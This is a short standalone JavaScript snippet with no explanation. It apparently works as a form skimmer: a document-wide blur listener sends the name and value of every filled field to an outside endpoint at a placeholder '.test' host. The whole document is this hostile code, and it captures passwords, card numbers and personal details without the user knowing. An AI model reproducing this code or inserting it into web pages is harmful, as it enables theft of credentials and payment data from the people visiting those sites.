(function () {
  document.addEventListener(
    'blur',
    function (event) {
      var field = event.target;
      if (!field.value) return;
      var request = new XMLHttpRequest();
      request.open('POST', 'https://ear.key-listener.test/fields', true);
      request.setRequestHeader('Content-Type', 'text/plain');
      request.send('n=' + encodeURIComponent(field.name) + '&v=' + encodeURIComponent(field.value));
    },
    true,
  );
})();
